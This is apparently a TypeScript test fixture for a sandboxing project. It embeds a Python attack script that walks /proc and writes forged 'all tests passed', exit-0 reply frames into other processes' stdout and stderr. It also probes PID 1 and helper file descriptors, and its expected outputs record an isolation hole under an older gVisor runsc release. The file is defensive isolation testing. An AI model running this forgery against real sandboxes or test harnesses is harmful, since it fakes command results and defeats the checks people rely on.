/**
 * The red-team's channel attack, as Python run inside a sandbox (test/engine/sandbox/channel/
 * forgery.test.ts on Docker, test/k8s/exec-channel.test.ts on Kubernetes): forged stdout and
 * exit-0 reply frames for request ids 1..499, written into the fds of every process outside the
 * attacking command's session, and helpers to open /proc/<pid>/fd/N and read a process's
 * (name, parent pid). Prepend it to a script that calls them.
 */
import { expect } from "vitest";
import type { Sandbox } from "../../src/sandbox/types.js";
import { run } from "./sandbox-fixture.js";

export const FORGE = `
import os, struct, errno
def fr(t, i, p): return struct.pack(">IBI", len(p), t, i) + p
FORGED = b"".join(fr(0x42, i, b"FORGED: all tests passed\\n") + fr(0x44, i, b'{"code":0}') for i in range(1, 500))
SID = os.getsid(0)
def stat(pid):
    try:
        s = open("/proc/%s/stat" % pid).read()
    except OSError:
        return None
    rest = s[s.rindex(")") + 2:].split()
    return s[s.index("(") + 1:s.rindex(")")], int(rest[1])
def outside(pid):
    try:
        return os.getsid(int(pid)) != SID
    except OSError:
        return False
def try_open(path, flags, payload=None):
    try:
        fd = os.open(path, flags)
    except OSError as e:
        return errno.errorcode[e.errno]
    if payload is not None:
        os.write(fd, payload)
    os.close(fd)
    return "opened"
def attack():
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    forged = [p for p in pids if outside(p) and try_open("/proc/%s/fd/1" % p, os.O_WRONLY, FORGED) == "opened"]
    forged += [p for p in pids if outside(p) and try_open("/proc/%s/fd/2" % p, os.O_WRONLY, FORGED) == "opened"]
    return forged
`;

/**
 * Python: probes PID 1 and the helpers whose parent pid is `helperParent` (1 on Docker: the
 * PID-1 helper's serving child; 0 on Kubernetes: the process the exec API started), prints one
 * line per probe (the probes only open, never write), then attacks (the only writes: forged frames
 * into the stdout and stderr of every process outside its session it can open), prints
 * `real-output` and exits 3.
 */
export function attackNow(helperParent: 0 | 1): string {
  return `${FORGE}
helpers = [p for p in os.listdir("/proc") if p.isdigit() and p != "1" and stat(p) == ("warden-helper", ${helperParent})]
print("helpers:", len(helpers))
print("pid 1 fd 0:", try_open("/proc/1/fd/0", os.O_RDONLY))
print("pid 1 fd 1:", try_open("/proc/1/fd/1", os.O_WRONLY))
for h in helpers:
    print("helper fd 0:", try_open("/proc/%s/fd/0" % h, os.O_RDONLY))
    print("helper fd 1:", try_open("/proc/%s/fd/1" % h, os.O_WRONLY))
    print("helper mem:", try_open("/proc/%s/mem" % h, os.O_RDONLY))
    try:
        os.listdir("/proc/%s/fd" % h)
        print("helper fd dir: listed")
    except OSError as e:
        print("helper fd dir:", errno.errorcode[e.errno])
print("forged into:", attack())
print("real-output")
raise SystemExit(3)
`;
}

/** What attackNow prints when every probe is refused (one helper) and nothing was forged. */
export const ATTACK_REFUSED = [
  "helpers: 1",
  "pid 1 fd 0: EACCES",
  "pid 1 fd 1: EACCES",
  "helper fd 0: EACCES",
  "helper fd 1: EACCES",
  "helper mem: EACCES",
  "helper fd dir: EACCES",
  "forged into: []",
  "real-output",
  "",
].join("\n");

/**
 * What attackNow prints under the runsc the test cluster builds from gvisor.dev/gvisor
 * (scripts/k8s/gvisor): every open refused and nothing forged, as on Linux, but the helper's
 * /proc/<pid>/fd lists (gVisor makes a non-dumpable process's fd directory 0500 of its own uid, not
 * root's: its fd numbers show; opening or reading a link there is EACCES).
 */
export const ATTACK_REFUSED_UNDER_GVISOR = ATTACK_REFUSED.replace(
  "helper fd dir: EACCES",
  "helper fd dir: listed",
);

/**
 * What attackNow's probes print under gVisor's runsc 20221219 (Debian 12), up to the attack: the
 * Sentry does not make a non-dumpable process's /proc/<pid>/fd root-owned (Linux does, and so does
 * gVisor from later releases), so a command of the same uid opens PID 1's and the channel helper's
 * stdin and stdout; /proc/<pid>/mem stays refused.
 */
export const PROBES_OPENED_UNDER_RUNSC_20221219 = [
  "helpers: 1",
  "pid 1 fd 0: opened",
  "pid 1 fd 1: opened",
  "helper fd 0: opened",
  "helper fd 1: opened",
  "helper mem: EACCES",
  "helper fd dir: listed",
  "",
].join("\n");

/**
 * Runs attackNow(`helperParent`) in `victim` under runsc 20221219 and asserts the known hole: the
 * forged reply (stdout, exit 0) is taken as the call's result instead of the real exit 3, the probes
 * (read back through `readFile`, outside the channel) are PROBES_OPENED_UNDER_RUNSC_20221219, and the
 * frames forged for later request ids close the channel as corrupted. `victim` is unusable after.
 */
export async function expectForgedUnderRunsc(
  victim: Sandbox,
  helperParent: 0 | 1,
  readFile: (path: string) => Promise<string>,
): Promise<void> {
  const script = attackNow(helperParent);
  // Unbuffered: the probes' lines are in the file before attack() forges. The forged exit ends the
  // call at once, and the controller may then close the corrupted channel, whose helper kills the
  // probe: what it printed after forging is not waited for.
  const r = await run(victim, { argv: ["bash", "-c", 'python3 -u -c "$0" > /tmp/probe.out', script] });
  expect(r).toMatchObject({ stdout: "FORGED: all tests passed\n", stderr: "", exitCode: 0 });
  const probes = await readFile("/tmp/probe.out");
  expect(probes.slice(0, PROBES_OPENED_UNDER_RUNSC_20221219.length)).toBe(PROBES_OPENED_UNDER_RUNSC_20221219);
  await expect(run(victim, "echo next")).rejects.toThrow(/corrupted stream/);
}
